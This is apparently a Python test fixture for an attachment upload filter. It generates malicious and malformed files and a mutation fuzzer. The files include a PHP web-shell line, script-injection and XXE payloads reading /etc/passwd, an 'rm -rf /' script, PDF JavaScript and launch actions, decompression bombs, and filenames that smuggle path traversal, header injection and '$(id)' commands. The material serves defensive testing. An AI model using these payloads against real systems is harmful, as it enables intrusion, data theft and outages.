"""Files as attackers and broken phones send them (trust.md 3.9): one corpus, and mutants of good files.

Each entry is (name as sent, content). Made here, byte by byte: no file of strangers lies in the repository.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from random import Random

from PIL import Image, PngImagePlugin

from tests.test_attachments import object_stream, pdf, picture, png_of, with_camera_data

SCRIPT = b"<script>alert(document.domain)</script>"
PHP = b"<?php system($_GET['c']); ?>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LIMIT = 10 * 1024 * 1024
# What must never come out again of a picture.
MARKS = (b"<script", b"<?php", b"EICAR-STANDARD", b"PK\x03\x04", b"SecretCamera")


def archive(*, bomb: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("evil.html", SCRIPT)
        if bomb:
            file.writestr("bomb", b"\0" * bomb)
    return out.getvalue()


def with_text_chunk(kind: str) -> bytes:
    """A PNG whose text says a script: plain, packed, or packed and endless."""
    out, info = io.BytesIO(), PngImagePlugin.PngInfo()
    info.add_text("Comment", (SCRIPT + EICAR).decode(), zip=kind != "plain")
    if kind == "bomb":
        info.add_text("Bomb", "\0" * 60_000_000, zip=True)
    Image.new("RGB", (20, 20)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def inflating_png() -> bytes:
    """Few bytes, a small picture by its header, and far more pixels than that inside."""
    head = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 60_000_000))
        + chunk(b"IEND", b"")
    )


def animated_png() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), color) for color in ("red", "green", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def jpeg_with_comment(comment: bytes) -> bytes:
    whole = picture()
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + whole[2:]


def padded_pdf(size: int) -> bytes:
    whole = pdf()
    return whole[:9] + b"%" + b"x" * (size - len(whole) - 2) + b"\n" + whole[9:]


def padded_jpeg(size: int) -> bytes:
    whole = picture()
    return whole + b"\0" * (size - len(whole))


def corpus() -> dict[str, tuple[str, bytes]]:
    gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
    return {
        # --- what is something else than its name says
        "svg as png": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        "svg as svg": ("a.svg", b"<?xml version='1.0'?><svg onload='alert(1)'/>"),
        "html as jpg": ("a.jpg", b"<!doctype html><html>" + SCRIPT),
        "html as pdf": ("a.pdf", b"<html>" + SCRIPT),
        "html with utf-16": ("a.pdf", ("\ufeff<html><script>alert(1)</script>").encode("utf-16")),
        "xml with entities": ("a.pdf", b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"),
        "program": ("发票.pdf", b"MZ\x90\x00" + b"\0" * 300),
        "elf": ("a.pdf", b"\x7fELF" + b"\0" * 300),
        "shell script": ("a.pdf", b"#!/bin/sh\nrm -rf /\n"),
        "php": ("a.php", PHP),
        "php as jpg": ("a.php.jpg", PHP),
        "gif": ("a.gif", gif),
        "gifar": ("a.jpg", gif + archive()),
        "webp": ("a.jpg", b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 24),
        "heic": ("a.jpg", b"\0\0\0\x18ftypheic" + b"\0" * 40),
        "tiff": ("a.jpg", b"II*\0" + b"\0" * 60),
        "bmp": ("a.png", b"BM" + b"\0" * 60),
        "postscript": ("a.pdf", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n"),
        "word": ("a.docx", archive()),
        "zip as pdf": ("a.pdf", archive()),
        "zip bomb": ("a.pdf", archive(bomb=20_000_000)),
        "rar": ("a.pdf", b"Rar!\x1a\x07\x00" + b"\0" * 50),
        "eicar": ("eicar.com", EICAR),
        "eicar as pdf": ("a.pdf", EICAR),
        # --- two things at once
        "jpeg with a zip behind": ("a.jpg", picture() + archive()),
        "jpeg with php behind": ("a.jpg", picture() + PHP),
        "jpeg with html comment": ("a.jpg", jpeg_with_comment(SCRIPT)),
        "jpeg with php comment": ("a.jpg", jpeg_with_comment(PHP + EICAR)),
        "jpeg with camera data": ("a.jpg", with_camera_data()),
        "png with html behind": ("a.png", picture("PNG") + SCRIPT),
        "png with a zip behind": ("a.png", picture("PNG") + archive()),
        "png with a script in a text": ("a.png", with_text_chunk("plain")),
        "png with a packed script": ("a.png", with_text_chunk("packed")),
        "png with a text bomb": ("a.png", with_text_chunk("bomb")),
        "png that moves": ("a.png", animated_png()),
        "pdf and html": ("a.html", pdf(b"1 0 obj << /T (" + SCRIPT + b") >> endobj\n")),
        "html before the pdf": ("a.pdf", b"<html>" + SCRIPT + b"-->\n" + pdf()),
        "pdf with a zip behind": ("a.pdf", pdf() + archive()),
        "pdf with eicar behind": ("a.pdf", pdf() + EICAR),
        # --- PDF that does something
        "pdf with javascript": ("a.pdf", pdf(b"1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n")),
        "pdf with escaped javascript": ("a.pdf", pdf(b"1 0 obj << /S /J#61v#61Script >> endobj\n")),
        "pdf with packed javascript": ("a.pdf", pdf(object_stream(b"7 0 << /S /JavaScript >>"))),
        "pdf with a launch": ("a.pdf", pdf(b"1 0 obj << /S /Launch /F (cmd.exe) >> endobj\n")),
        "pdf with a file inside": ("a.pdf", pdf(b"1 0 obj << /EmbeddedFiles 3 0 R >> endobj\n")),
        "pdf that calls home": (
            "a.pdf",
            pdf(b"1 0 obj << /OpenAction << /S /URI /URI (http://a.cn) >> >> endobj\n"),
        ),
        "pdf that sends a form": ("a.pdf", pdf(b"1 0 obj << /S /SubmitForm /F (http://a.cn) >> endobj\n")),
        "pdf with javascript packed after a lone CR": (
            "a.pdf",
            pdf(object_stream(b"7 0 << /S /JavaScript >>").replace(b"\nstream\n", b"\nstream\r")),
        ),
        "pdf with javascript packed after a blank": (
            "a.pdf",
            pdf(object_stream(b"7 0 << /S /JavaScript >>").replace(b"\nstream\n", b"\nstream \n")),
        ),
        "pdf with an object stream that begins like none": (
            "a.pdf",
            pdf(object_stream(b"7 0 << /S /JavaScript >>").replace(b"\nstream\n", b"\nstream%\n")),
        ),
        "pdf with a scripted form": ("a.pdf", pdf(b"7 0 obj << /AcroForm << /XFA 8 0 R >> >> endobj\n")),
        "pdf bomb": ("a.pdf", pdf(object_stream(b"\0" * 70_000_000))),
        "locked pdf": ("a.pdf", pdf(object_stream(b"7 0 <<>>") + b"8 0 obj << /Encrypt 9 0 R >> endobj\n")),
        "pdf of many streams": ("a.pdf", pdf(b"1 0 obj << >> stream\nx\nendstream endobj\n" * 3_000)),
        "pdf of many openings": ("a.pdf", pdf(b"/OpenAction << /S /GoTo >>\n" * 3_000)),
        # --- too large, too small, broken
        "nothing": ("a.pdf", b""),
        "one byte": ("a.pdf", b"%"),
        "only magic: pdf": ("a.pdf", b"%PDF-"),
        "only magic: jpeg": ("a.jpg", b"\xff\xd8\xff"),
        "only magic: png": ("a.png", b"\x89PNG\r\n\x1a\n"),
        "half a pdf": ("a.pdf", pdf()[:-9]),
        "half a jpeg": ("a.jpg", picture("JPEG", (300, 300))[:900]),
        "half a png": ("a.png", picture("PNG", (300, 300))[:300]),
        "png with a bad checksum": ("a.png", picture("PNG").replace(b"IDAT", b"IDAX")),
        "png of 50,000 by 50,000": ("a.png", png_of(50_000, 50_000)),
        "png of no width": ("a.png", png_of(0, 10)),
        "png with more inside than it says": ("a.png", inflating_png()),
        "pdf one byte below the limit": ("a.pdf", padded_pdf(LIMIT - 1)),
        "pdf at the limit": ("a.pdf", padded_pdf(LIMIT)),
        "pdf one byte above the limit": ("a.pdf", padded_pdf(LIMIT + 1)),
        "jpeg at the limit": ("a.jpg", padded_jpeg(LIMIT)),
        "jpeg one byte above the limit": ("a.jpg", padded_jpeg(LIMIT + 1)),
        # --- names
        **{f"name: {name[:30]!r}": (name, pdf()) for name in NAMES},
    }


NAMES = [
    "../../../../etc/cron.d/x.pdf", "..\\..\\windows\\system32\\x.pdf", "/etc/passwd", "C:\\boot.ini", "....//....//x.pdf",
    "证书\u202efdp.exe", "\u2066\u200f\u200bx.pdf", "好" * 300 + ".pdf", "a" * 300, "a" * 5_000 + ".pdf", "x\x00.pdf", "x.pdf\x00.exe",
    'x\r\nSet-Cookie: a=b\r\n\r\n<html>.pdf', 'x";filename="y.exe', "x.pdf;.exe", ".pdf", "...", ".htaccess", "CON.pdf", "nul", "x.pdf.",
    "x .pdf ", "~", "-rf", "$(id).pdf", "`id`.pdf", "%2e%2e%2fx.pdf", "<img src=x onerror=alert(1)>.pdf", "=cmd|x!A0.pdf", "\U0001f4a9.pdf",
    "\udcff\ud800.pdf", "e\u0301" * 150 + ".pdf", "\u2028x\u2029.pdf", "x.jsp%00.pdf", "ｆｕｌｌ．ｐｄｆ",
]  # fmt: skip


# --- mutants --------------------------------------------------------------------------------------------


def seeds() -> list[tuple[str, bytes]]:
    palette = io.BytesIO()
    Image.new("P", (30, 30)).save(palette, "PNG", transparency=0)
    wide = io.BytesIO()
    Image.linear_gradient("L").resize((60, 40)).convert("I;16").save(wide, "PNG")
    print_colours = io.BytesIO()
    Image.new("CMYK", (20, 20)).save(print_colours, "JPEG")
    progressive = picture("JPEG", (80, 60), progressive=True)
    return [
        ("a.pdf", pdf()), ("b.pdf", pdf(object_stream(b"7 0 << /Type /Page >>"))),
        ("c.pdf", pdf(b"1 0 obj << /OpenAction [3 0 R /Fit] >> endobj\n" + object_stream(b"8 0 << /Type /Font >>"))),
        ("a.jpg", picture()), ("b.jpg", with_camera_data()), ("c.jpg", progressive), ("d.jpg", print_colours.getvalue()),
        ("a.png", picture("PNG")), ("b.png", palette.getvalue()), ("c.png", with_text_chunk("packed")), ("d.png", wide.getvalue()),
        ("e.png", animated_png()),
    ]  # fmt: skip


def mutants(
    dice: Random, count: int, grown: list[tuple[str, bytes]] | None = None
) -> Iterator[tuple[str, bytes]]:
    """Good files with bytes flipped, cut out, doubled, or put in; checksums of PNG parts mended half of the time."""
    good = grown or seeds()
    for number in range(count):
        name, content = good[number % len(good)]
        changed = bytearray(content)
        for _ in range(dice.choice([1, 1, 2, 4, 16])):
            place = dice.randrange(len(changed)) if changed else 0
            roll = dice.random()
            if roll < 0.5 and changed:
                changed[place] ^= 1 << dice.randrange(8)
            elif roll < 0.65 and changed:
                changed[place] = dice.choice([0, 0x7F, 0x80, 0xFF])
            elif roll < 0.75:
                del changed[place : place + dice.randrange(1, 40)]
            elif roll < 0.85:
                changed[place:place] = changed[place : place + dice.randrange(1, 60)]
            elif roll < 0.95:
                changed[place:place] = dice.choice(
                    [
                        b"/JS",
                        b"<<",
                        b">>",
                        b"\xff\xd8",
                        b"\0\0\0\0",
                        b"\xff\xff\xff\xff",
                        b"stream\n",
                        b"IEND",
                    ]
                )
            else:
                del changed[place:]
        yield name, mended(bytes(changed)) if name.endswith("png") and dice.random() < 0.5 else bytes(changed)


def mended(content: bytes) -> bytes:
    """A PNG whose parts have right checksums again: what is wrong with it lies deeper."""
    out, place = content[:8], 8
    while place + 12 <= len(content):
        (length,) = struct.unpack(">I", content[place : place + 4])
        if place + 12 + length > len(content):
            break
        out += chunk(content[place + 4 : place + 8], content[place + 8 : place + 8 + length])
        place += 12 + length
    return out + content[place:]
